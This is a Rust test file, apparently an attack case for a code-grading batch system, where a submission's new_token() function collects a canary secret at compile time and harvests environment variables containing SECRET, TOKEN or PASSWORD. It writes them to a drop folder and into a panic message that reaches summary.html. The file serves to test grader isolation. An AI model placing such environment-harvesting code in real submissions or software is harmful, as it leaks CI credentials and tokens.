//! Attack (batch): the instructor's environment, read and sent out.
//!
//! The driver runs the batch with a secret in its environment
//! (`ATTACK_CANARY_SECRET`, as a CI job has its tokens). This file bakes it
//! in at compile time (`option_env!`) and reads the whole environment at run
//! time; it writes every secret it finds to the drop folder and panics with
//! it on a "Broken rule:" line, which the batch copies into `summary.html`.
//!
//! A sound grader builds and runs a submission with a clean environment and
//! nowhere to write: the secret appears in no file the attack could write or
//! the batch wrote.

#[path = "atk_kit.rs"]
mod kit;

use std::sync::atomic::AtomicBool;

static DONE: AtomicBool = AtomicBool::new(false);

const BAKED: Option<&str> = option_env!("ATTACK_CANARY_SECRET");

pub fn new_token() -> String {
    let mut found = Vec::new();
    if let Some(secret) = BAKED {
        found.push(format!("at compile time: {secret}"));
    }
    for (name, value) in std::env::vars() {
        if name.contains("SECRET") || name.contains("TOKEN") || name.contains("PASSWORD") {
            found.push(format!("at run time: {name}={value}"));
        }
    }
    if kit::first(&DONE) && !found.is_empty() {
        kit::evidence("batch-env-leak", &found.join("; "));
    }
    if found.is_empty() {
        todo!("return 16 to 20 random bytes as text (see the comment above)")
    }
    panic!("\nBroken rule: {}\n", found.join("; "))
}
